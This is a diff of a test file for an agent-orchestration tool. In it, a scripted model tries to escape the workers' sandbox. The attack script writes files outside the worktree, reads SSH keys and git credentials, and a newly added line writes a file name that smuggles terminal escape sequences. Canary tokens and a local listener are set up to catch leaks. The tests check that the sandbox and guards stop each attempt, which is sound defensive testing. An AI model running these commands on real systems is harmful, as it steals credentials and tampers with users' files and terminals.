@@ -28,76 +28,11 @@
  *
  * Needs `npm run build`. One scripted turn per vendor tries every attack in sequence.
  */
-import { generateKeyPairSync } from 'node:crypto';
-import { execFile } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { tmpdir } from 'node:os';
-import { dirname, join, resolve } from 'node:path';
-import { fileURLToPath } from 'node:url';
+import { rmSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stringify } from 'yaml';
 import type { Harness } from '../../brain/core/vocabulary.js';
-import type { Registry } from '../../brain/registry/registry-schema.js';
-import { useScriptedModels } from '../../scripts/scripted-model/configure.js';
-import { parseModelScript } from '../../scripts/scripted-model/script.js';
-import { startScriptedModelServer, type ScriptedModelServer } from '../../scripts/scripted-model/server.js';
-import { git, gitTestEnv } from '../helpers/git-repo.js';
-
-const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
-const CLI = join(ROOT, 'dist', 'brain', 'cli.js');
-
-/** True when the worker runner Polly ships starts agents inside its sandbox. */
-function sandboxWired(): boolean {
-  const runner = join(ROOT, 'dist', 'workers', 'supervisor', 'worker-runner.js');
-  return existsSync(runner) && /sandbox\//.test(readFileSync(runner, 'utf8'));
-}
-const SANDBOXED = sandboxWired();
-
-const ALNUM = 'aZ0bY1cX2dW3eV4fU5gT6hS7iR8jQ9kPlOmNnMoLpKqJrIsHtGuFvEwDxCyBzA';
-/** A GitHub-token-shaped canary, assembled at run time (no secret is stored in this repository). */
-const CANARY_TOKEN = ['gh', 'p_', Array.from({ length: 36 }, (_, i) => ALNUM[(i * 11 + 7) % ALNUM.length]).join('')].join('');
-const CANARY_CREDENTIAL = `https://polly-canary:${CANARY_TOKEN.slice(4, 20)}@github.com`;
-
-interface Ran {
-  code: number | null;
-  stdout: string;
-  stderr: string;
-}
-
-function run(cmd: string, args: string[], cwd: string, env: NodeJS.ProcessEnv, timeoutMs: number): Promise<Ran> {
-  return new Promise((done) => {
-    execFile(cmd, args, { cwd, env, timeout: timeoutMs, maxBuffer: 32 * 1024 * 1024, encoding: 'utf8' }, (error, stdout, stderr) => {
-      const code = error ? (typeof (error as NodeJS.ErrnoException).code === 'number' ? (error as unknown as { code: number }).code : null) : 0;
-      done({ code, stdout, stderr: error && code === null ? `${stderr}\n${error.message}` : stderr });
-    });
-  });
-}
-
-/** Live processes whose command line contains `marker` (the process table is the ground truth). */
-function processesWith(marker: string): number[] {
-  const out: number[] = [];
-  for (const name of readdirSync('/proc')) {
-    if (!/^\d+$/.test(name)) continue;
-    try {
-      if (readFileSync(`/proc/${name}/cmdline`, 'utf8').includes(marker)) out.push(Number(name));
-    } catch {
-      // gone
-    }
-  }
-  return out.filter((pid) => pid !== process.pid);
-}
-
-interface Setting {
-  root: string;
-  repo: string;
-  origin: string;
-  home: string;
-  sibling: string;
-  listener: string;
-  marker: string;
-}
+import { attackRun, expectGitUntouched, expectNothingHappened, SANDBOXED, type Outcome, type Setting } from './attack-harness.js';
 
 /** The attacks as one shell script (every step may fail; the next one still runs). */
 function gitAttacks(s: Setting): string {
@@ -124,6 +59,7 @@ function otherAttacks(s: Setting): string {
   return `R='${s.repo}'
 L='${s.listener}'
 echo pwned > "$R/PWNED"
+echo pwned > "$R/$(printf 'esc\\033]0;PWNED-TITLE\\007\\033[2J')"
 echo pwned > '${s.sibling}/PWNED'
 KEY=$(cat '${s.home}/.ssh/id_rsa' 2>/dev/null)
 CRED=$(cat '${s.home}/.git-credentials' 2>/dev/null)
@@ -164,130 +100,28 @@ function script(vendor: Harness, taskTitle: string, s: Setting): string {
 
 const REVIEWER: Record<Harness, Harness> = { 'claude-code': 'pi', pi: 'claude-code', codex: 'pi' };
 
-interface Outcome {
-  s: Setting;
-  result: Ran;
-  initial: { local: string; origin: string; config: string; hooks: string[]; mainReflog: number };
-  received: Array<{ method: string; url: string; body: string }>;
-  aliveAfterRun: number[];
-  registry: Registry;
+function attackTasks(vendor: Harness, title: string): unknown[] {
+  return [
+    {
+      key: 'a1',
+      title,
+      purpose: 'implement',
+      worker: vendor,
+      reviewer: REVIEWER[vendor],
+      prompt: 'Harden the target.',
+      acceptance: { commands: ['node attack-test.js'], criteria: ['the test passes'] },
+    },
+  ];
 }
-
-async function attackRun(vendor: Harness): Promise<Outcome> {
-  const root = realpathSync(mkdtempSync(join(tmpdir(), `polly-attack-${vendor}-`)));
-  const env = gitTestEnv();
-  const repo = join(root, 'repo');
-  const origin = join(root, 'origin.git');
-  const home = join(root, 'home');
-  const marker = `polly-attack-marker-${vendor}-${process.pid}`;
-  mkdirSync(join(home, '.ssh'), { recursive: true });
-  mkdirSync(join(home, '.config', 'gh'), { recursive: true });
-  const key = generateKeyPairSync('rsa', {
-    modulusLength: 2048,
-    privateKeyEncoding: { type: 'pkcs1', format: 'pem' },
-    publicKeyEncoding: { type: 'spki', format: 'pem' },
-  }).privateKey;
-  writeFileSync(join(home, '.ssh', 'id_rsa'), key, { mode: 0o600 });
-  writeFileSync(join(home, '.git-credentials'), `${CANARY_CREDENTIAL}\n`);
-  writeFileSync(join(home, '.config', 'gh', 'hosts.yml'), `github.com:\n  oauth_token: ${CANARY_TOKEN}\n`);
-
-  // The forge stand-in: records every request it gets.
-  const received: Outcome['received'] = [];
-  const listener: Server = createServer((req, res) => {
-    let body = '';
-    req.on('data', (c) => (body += c));
-    req.on('end', () => {
-      received.push({ method: req.method ?? '', url: req.url ?? '', body });
-      res.end('{"merged": true}');
-    });
-  });
-  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
-  const s: Setting = { root, repo, origin, home, sibling: '', listener: `http://127.0.0.1:${(listener.address() as AddressInfo).port}`, marker };
-
-  git(root, ['init', '-q', '--bare', '-b', 'main', origin]);
-  mkdirSync(repo);
-  git(repo, ['init', '-q', '-b', 'main']);
-  writeFileSync(join(repo, 'README.md'), '# target\n');
-  git(repo, ['add', '-A']);
-  git(repo, ['commit', '-q', '-m', 'initial']);
-  git(repo, ['remote', 'add', 'origin', origin]);
-  git(repo, ['branch', 'feature']);
-  git(repo, ['tag', 'v1']);
-  git(repo, ['push', '-q', '-u', 'origin', 'main', 'feature', 'v1']);
-  const init = await run(process.execPath, [CLI, 'init'], repo, { ...env, HOME: home }, 60_000);
-  expect(init.code, init.stderr).toBe(0);
-  // A sibling task's worktree directory, and the developer's uncommitted work in the main checkout.
-  s.sibling = join(repo, '.worktrees', 'sibling');
-  mkdirSync(s.sibling, { recursive: true });
-  writeFileSync(join(repo, 'README.md'), '# target\n\nwork in progress, not committed\n');
-
-  const title = `Harden the target (${vendor})`;
-  const server: ScriptedModelServer = await startScriptedModelServer({ script: parseModelScript(script(vendor, title, s), `attack-${vendor}.yaml`) });
-  const modelEnv = useScriptedModels(repo, server.url);
-  const plan = join(root, 'plan.yaml');
-  writeFileSync(
-    plan,
-    stringify({
-      goal: 'Attack suite',
-      tasks: [
-        {
-          key: 'a1',
-          title,
-          purpose: 'implement',
-          worker: vendor,
-          reviewer: REVIEWER[vendor],
-          prompt: 'Harden the target.',
-          acceptance: { commands: ['node attack-test.js'], criteria: ['the test passes'] },
-        },
-      ],
-    }),
-  );
-  const localRefs = () => git(repo, ['for-each-ref', '--format=%(objectname) %(refname)', 'refs/heads/', 'refs/tags/']);
-  const originRefs = () => git(root, ['--git-dir', origin, 'for-each-ref', '--format=%(objectname) %(refname)']);
-  const initial = {
-    local: localRefs(),
-    origin: originRefs(),
-    config: readFileSync(join(repo, '.git', 'config'), 'utf8'),
-    hooks: readdirSync(join(repo, '.git', 'hooks')).sort(),
-    mainReflog: git(repo, ['reflog', 'show', '--format=%H', 'refs/heads/main']).split('\n').length,
-  };
-  let result: Ran;
-  try {
-    result = await run(
-      process.execPath,
-      [CLI, 'run', plan, '--yes', '--json'],
-      repo,
-      { ...env, ...modelEnv, HOME: home, GITHUB_TOKEN: CANARY_TOKEN, GH_TOKEN: CANARY_TOKEN },
-      240_000,
-    );
-  } finally {
-    await server.close();
-  }
-  const aliveAfterRun = processesWith(marker);
-  // Past the moment the left-behind processes would act (6 s after the turn).
-  await new Promise((r) => setTimeout(r, 7000));
-  for (const pid of processesWith(marker)) {
-    try {
-      process.kill(pid, 'SIGKILL');
-    } catch {
-      // gone
-    }
-  }
-  await new Promise<void>((r) => listener.close(() => r()));
-  const registry = JSON.parse(readFileSync(join(repo, '.polly', 'registry.json'), 'utf8')) as Registry;
-  return { s, result, initial, received, aliveAfterRun, registry };
-}
-
-const localRefsOf = (o: Outcome) => git(o.s.repo, ['for-each-ref', '--format=%(objectname) %(refname)', 'refs/heads/', 'refs/tags/']);
-const originRefsOf = (o: Outcome) => git(o.s.root, ['--git-dir', o.s.origin, 'for-each-ref', '--format=%(objectname) %(refname)']);
 
 describe.each(['claude-code', 'pi', 'codex'] as Harness[])('attacks through the real %s', (vendor) => {
   let o: Outcome;
   beforeAll(async () => {
-    o = await attackRun(vendor);
+    const title = `Harden the target (${vendor})`;
+    o = await attackRun(vendor, attackTasks(vendor, title), (s) => script(vendor, title, s));
   }, 300_000);
   afterAll(() => {
-    if (o) rmSync(o.s.root, { recursive: true, force: true });
+    if (o && !process.env.POLLY_ATTACK_KEEP) rmSync(o.s.root, { recursive: true, force: true });
   });
 
   it('the run ends failed, never ready, naming what was tried (the moved refs, or what the sandbox refused)', () => {
@@ -297,7 +131,7 @@ describe.each(['claude-code', 'pi', 'codex'] as Harness[])('attacks through the 
     process.stderr.write(`attack suite, ${vendor}: ${task.status}: ${task.statusReason}\n`);
     expect(o.result.code, `${o.result.stdout}\n${o.result.stderr}`).toBe(1);
     expect(task.status).toBe('failed');
-    const journal = readFileSync(join(o.s.repo, '.polly', 'journal.jsonl'), 'utf8');
+    const journal = o.journal;
     if (SANDBOXED) {
       // Nothing moved; what the sandbox refused names the attempt (the OS's own EROFS lines).
       expect(task.statusReason).toMatch(/sandbox refused a write outside the worktree during (the .* turn|acceptance): .*Read-only file system/);
@@ -310,33 +144,18 @@ describe.each(['claude-code', 'pi', 'codex'] as Harness[])('attacks through the 
       expect(journal).toContain('"guard.ref_changed"');
     }
     expect(task.pr).toBeNull();
+    // A file name with terminal escapes, refused by the sandbox: its refusal line reaches the reason
+    // and Polly's output with the escapes made visible, never raw.
+    expect(task.statusReason).not.toContain('\u001b');
+    expect(`${o.result.stdout}${o.result.stderr}`).not.toContain('\u001b');
   });
 
   it('every ref, local and on origin, and the git config and hooks end as they began; nothing was pushed; no canary reached origin', () => {
-    expect(git(o.s.repo, ['for-each-ref', '--format=%(refname)', 'refs/heads/']).split('\n').sort()).toEqual(
-      ['refs/heads/feature', 'refs/heads/main', `refs/heads/${Object.values(o.registry.tasks)[0]!.branch}`].sort(),
-    );
-    for (const line of o.initial.local.split('\n')) expect(localRefsOf(o)).toContain(line);
-    expect(git(o.s.repo, ['for-each-ref', '--format=%(refname)', 'refs/tags/'])).toBe('refs/tags/v1');
-    expect(originRefsOf(o)).toBe(o.initial.origin);
-    expect(readFileSync(join(o.s.repo, '.git', 'config'), 'utf8')).toBe(o.initial.config);
-    expect(readdirSync(join(o.s.repo, '.git', 'hooks')).sort()).toEqual(o.initial.hooks);
-    expect(existsSync(join(o.s.repo, 'HOOK-RAN'))).toBe(false);
-    expect(existsSync(join(o.s.repo, 'SSH-RAN'))).toBe(false);
-    const everything = git(o.s.root, ['--git-dir', o.s.origin, 'log', '--all', '-p', '--format=%H %B']);
-    expect(everything).not.toContain(CANARY_TOKEN);
-    expect(everything).not.toContain('PRIVATE KEY');
+    expectGitUntouched(o, [Object.values(o.registry.tasks)[0]!.branch!]);
   });
 
   it.skipIf(!SANDBOXED)('(sandbox) nothing happened at all: no reflog entry on main, no file outside the worktree, the WIP intact, nothing sent out, nothing left running', () => {
-    expect(git(o.s.repo, ['reflog', 'show', '--format=%H', 'refs/heads/main']).split('\n')).toHaveLength(o.initial.mainReflog);
-    expect(existsSync(join(o.s.repo, 'PWNED'))).toBe(false);
-    expect(existsSync(join(o.s.sibling, 'PWNED'))).toBe(false);
-    expect(existsSync(join(o.s.repo, 'LATE'))).toBe(false);
-    expect(readFileSync(join(o.s.repo, 'README.md'), 'utf8')).toContain('work in progress');
-    expect(o.received).toEqual([]);
-    expect(o.aliveAfterRun).toEqual([]);
-    expect(git(o.s.repo, ['for-each-ref', 'refs/heads/late'])).toBe('');
+    expectNothingHappened(o);
   });
 });
 
